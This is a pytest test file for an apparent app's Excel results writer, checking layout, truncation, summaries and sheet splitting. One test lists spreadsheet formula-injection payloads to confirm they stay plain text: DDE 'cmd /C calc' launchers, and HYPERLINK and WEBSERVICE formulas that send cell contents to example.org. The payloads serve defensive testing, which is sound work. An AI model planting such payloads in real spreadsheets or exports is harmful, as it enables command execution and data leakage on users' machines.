"""The Excel workbook, opened again with two other readers."""

from __future__ import annotations

import itertools
from collections.abc import Callable
from pathlib import Path
from typing import Any

import openpyxl
import pytest
from python_calamine import CalamineWorkbook

from app.records import PostroomError, Status
from app.writers.layout import layout_of
from app.writers.workbook import write_workbook
from tests.writers.rows import failed_row, letter_row, sheet_row

# The last two are the full-width forms.
STARTS = tuple("=+-@\uff1d\uff0d")
PAYLOADS = [
    start + middle
    for start, middle in itertools.product(
        ("=", "+", "-", "@", "\t=", "\r=", "\n=", " =", "\uff1d", "\uff0d"),
        (
            "1+1",
            "cmd|'/C calc'!A0",
            'HYPERLINK("http://example.org/?"&A1,"open")',
            "SUM(A1:A9)",
            "A1",
            'WEBSERVICE("http://example.org")',
            "2+5+cmd|' /C calc'!A0",
            'DDE("cmd";"/C calc";"x")',
            'IMPORTXML(CONCAT(A1),"//a")',
            "1",
            "TODAY()",
            "(1)",
            "#REF!",
            "'x'!A1",
            "{1,2}",
            "RAND()&CHAR(10)",
            "1%",
            "TRUE",
            "N/A",
            "-1",
        ),
    )
]


def table(path: Path, sheet: str = "Results") -> list[list[Any]]:
    book = openpyxl.load_workbook(path)
    return [[cell.value for cell in row] for row in book[sheet].iter_rows()]


def test_original_columns_come_first_and_then_what_was_decided(written):
    path = written(
        ".xlsx", [sheet_row(1, {"ID": "007", "Text": "a deep hole"})], ["ID", "Text"]
    )
    assert table(path) == [
        [
            *("ID", "Text", "Document", "Category", "Probability", "Runner-up"),
            *("Evidence", "Place", "Status", "Reason"),
        ],
        [
            *("007", "a deep hole", "calls.xlsx", "Potholes", 0.8312345, "Trees"),
            *("a deep hole", "Sheet1, row 4", "sorted", None),
        ],
    ]


def test_columns_of_several_sheets_stand_side_by_side(written):
    rows = [sheet_row(1, {"ID": "1"}), sheet_row(2, {"Nr": "2"})]
    cells = table(written(".xlsx", rows, ["ID", "Nr"]))
    assert [row[:2] for row in cells] == [["ID", "Nr"], ["1", None], [None, "2"]]


def test_a_header_that_was_not_announced_is_a_fault_and_no_lost_cell(written):
    with pytest.raises(ValueError, match="1 headers"):
        written(".xlsx", [sheet_row(1, {"Nr": "2"})], ["ID"])


def test_an_original_column_keeps_its_name_when_postroom_has_the_same(written):
    path = written(".xlsx", [sheet_row(1, {"category": "old"})], ["category"])
    heading, row = table(path)
    assert heading[0] == "category"
    assert row[0] == "old"
    assert heading[2] == "Category (Postroom)"
    assert row[2] == "Potholes"


def test_letters_show_the_beginning_of_their_text_and_the_page_of_the_evidence(written):
    heading, row = table(written(".xlsx", [letter_row()]))
    facts = dict(zip(heading, row, strict=True))
    assert facts["Text"].startswith("Dear office, the tree fell.")
    assert len(facts["Text"]) <= 302
    assert facts["Place"] == "page 2"


def test_a_document_that_failed_has_its_row_with_the_reason(written):
    heading, row = table(written(".xlsx", [failed_row()]))
    facts = dict(zip(heading, row, strict=True))
    assert facts["Status"] == "failed"
    assert facts["Reason"] == "The file is damaged."
    assert facts["Category"] is None


def test_two_hundred_formulas_stay_text(written):
    assert len(set(PAYLOADS)) == 200
    rows = [
        sheet_row(number, {payload_header(number): payload}, quote=payload)
        for number, payload in enumerate(PAYLOADS)
    ]
    path = written(".xlsx", rows, [payload_header(n) for n in range(len(PAYLOADS))])
    cells = [
        cell for row in openpyxl.load_workbook(path)["Results"].iter_rows() for cell in row
    ]
    assert [cell.coordinate for cell in cells if cell.data_type in {"f", "e"}] == []
    dangerous = [cell for cell in cells if str(cell.value or "").strip()[:1] in STARTS]
    assert len(dangerous) >= 400
    assert all(cell.quotePrefix for cell in dangerous)


def payload_header(number: int) -> str:
    return f"={number}+1"


@pytest.mark.parametrize(
    "text",
    ["000123456789012345678901", "1e5", "2024-01-02", "TRUE", "#N/A", "_x0041_", " x "],
)
def test_original_text_comes_back_as_it_was(text, written):
    path = written(".xlsx", [sheet_row(1, {"ID": text})], ["ID"])
    value = CalamineWorkbook.from_path(path).get_sheet_by_name("Results").to_python()[1][0]
    assert isinstance(value, str)
    assert value.replace("_x005F_", "_") == text


def test_characters_that_xml_forbids_are_shown(written):
    path = written(".xlsx", [sheet_row(1, {"ID": "a\x00b\x1bc\ud800d\uffffe\fg"})], ["ID"])
    assert table(path)[1][0] == "a�b�c�d�e�g"


@pytest.mark.parametrize("character", ["x", "\U0001f333", "é"])
def test_a_text_too_long_for_a_cell_is_cut_with_a_mark(character, written):
    path = written(".xlsx", [sheet_row(1, {"ID": character * 40_000})], ["ID"])
    value = table(path)[1][0]
    assert len(value.encode("utf-16-le")) // 2 <= 32_767
    assert value.startswith(character * 100)
    assert value.endswith("… [cut: Excel holds no more]")


def test_a_text_that_just_fits_is_not_cut(written):
    path = written(".xlsx", [sheet_row(1, {"ID": "x" * 32_767})], ["ID"])
    assert table(path)[1][0] == "x" * 32_767


def test_headings_are_frozen_filtered_and_printed_on_every_page(written):
    sheet = openpyxl.load_workbook(written(".xlsx", [sheet_row(1), sheet_row(2)], ["ID"]))[
        "Results"
    ]
    assert sheet.freeze_panes == "A2"
    assert sheet.auto_filter.ref == "A1:I3"
    assert sheet.print_title_rows == "$1:$1"
    assert sheet.page_setup.orientation == "landscape"
    assert sheet.column_dimensions["A"].width == 8
    assert sheet["D2"].number_format == "0.00%"
    assert sheet["F2"].alignment.wrap_text


def test_every_status_has_its_word_and_its_own_colour(written):
    rows = [sheet_row(number, status=status) for number, status in enumerate(Status, 1)]
    sheet = openpyxl.load_workbook(written(".xlsx", rows, ["ID"]))["Results"]
    cells = [sheet[f"H{number}"] for number in (2, 3, 4)]
    assert [cell.value for cell in cells] == ["sorted", "needs review", "failed"]
    assert len({cell.fill.fgColor.rgb for cell in cells}) == 3


def test_the_summary_counts_what_is_in_the_results(written):
    rows = [
        sheet_row(1),
        sheet_row(2, status=Status.NEEDS_REVIEW),
        letter_row(),
        failed_row(),
    ]
    lines = [tuple(row) for row in table(written(".xlsx", rows, ["ID"]), "Summary")]
    assert ("Documents", 4, *[None] * 5) in lines
    assert ("Items (letters and rows)", 3, *[None] * 5) in lines
    assert ("needs review", 2, pytest.approx(2 / 3), *[None] * 4) in lines
    assert ("Potholes", 2, pytest.approx(2 / 3), 1, 1, 0, None) in lines
    assert ("Other", 0, 0, 0, 0, 0, None) in lines
    assert ("It is close to Trees.", 1, pytest.approx(1 / 3), "needs review") in [
        line[:4] for line in lines
    ]
    assert ("scan.pdf", "failed", 0, 0, 0, 0, "The file is damaged.") in lines
    assert ("calls.xlsx", "waiting", 2, 1, 1, 0, None) in lines


def test_the_method_sheet_says_how_results_were_made(written, scheme):
    rows = table(written(".xlsx", [letter_row()]), "Method")
    lines = dict(row[:2] for row in rows)
    assert lines["Program"] == "Postroom 0.1.0"
    assert lines["Finished"] == "2026-01-02T03:04:05+00:00"
    assert lines["all-minilm-l6-v2"] == "cd" * 32
    assert lines["Text column"] == "proposed by Postroom"
    assert lines["Fingerprint (SHA-256)"] == scheme.fingerprint
    assert lines["Potholes"] == "Holes in a street.\nExample: A hole."
    assert lines["Probabilities"].startswith("not calibrated")
    assert [None, "Probabilities are not calibrated yet."] in rows


def test_the_workbook_names_itself(written):
    properties = openpyxl.load_workbook(written(".xlsx", [letter_row()])).properties
    assert properties.title == "Results: Requests"
    assert properties.creator == "Postroom 0.1.0"


def test_no_rows_make_a_workbook_too(written):
    assert len(table(written(".xlsx", []))) == 1


def test_what_is_more_than_a_sheet_holds_goes_on_in_the_next(tmp_path, about):
    path = tmp_path / "results.xlsx"
    rows = [sheet_row(number) for number in range(1, 8)]
    counts = list(write_workbook(path, rows, about, layout_of(["ID"]), sheet_rows=4))
    assert counts == [1, 2, 3, 4, 5, 6, 7]
    book = openpyxl.load_workbook(path)
    assert book.sheetnames == ["Results", "Results 2", "Results 3", "Summary", "Method"]
    assert [book[name].max_row for name in book.sheetnames[:3]] == [4, 4, 2]
    assert [path.name for path in tmp_path.iterdir()] == ["results.xlsx"]


def test_more_columns_than_excel_has_are_refused_with_a_way_out(
    written: Callable[..., Path],
):
    with pytest.raises(PostroomError, match=r"16,384 columns.*\.csv"):
        written(".xlsx", [], [str(number) for number in range(16_384)])
